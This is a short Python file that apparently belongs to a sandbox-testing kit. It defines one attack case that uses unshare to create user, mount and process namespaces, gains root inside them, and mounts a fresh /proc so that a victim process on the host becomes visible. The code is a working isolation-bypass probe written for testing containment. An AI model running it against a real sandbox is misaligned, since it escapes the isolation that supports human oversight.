"""Make new user, mount and process namespaces, become root in them, and mount a fresh /proc.

Would gain: the sight of every process of the machine.
"""

from ..kit import Attack, bet

CELL = bet("""
import ctypes, os
def intento():
    libc = ctypes.CDLL(None, use_errno=True)
    lugar = (@FOLDER@ + "/proc").encode()
    os.makedirs(lugar, exist_ok=True)
    nuevo = 0x20000 if os.getuid() == 0 else 0x10020000
    if libc.unshare(nuevo) or libc.mount(b"none", b"/", None, 0x44000, None):
        if libc.unshare(0x10020000) or libc.mount(b"none", b"/", None, 0x44000, None):
            return False
    return libc.mount(b"proc", lugar, b"proc", 0, None) == 0 and os.path.isdir(lugar.decode() + f"/{@VICTIM@}")
""")
ATTACK = Attack({"sigmoide": CELL}, needs_root=True, seccomp=True)
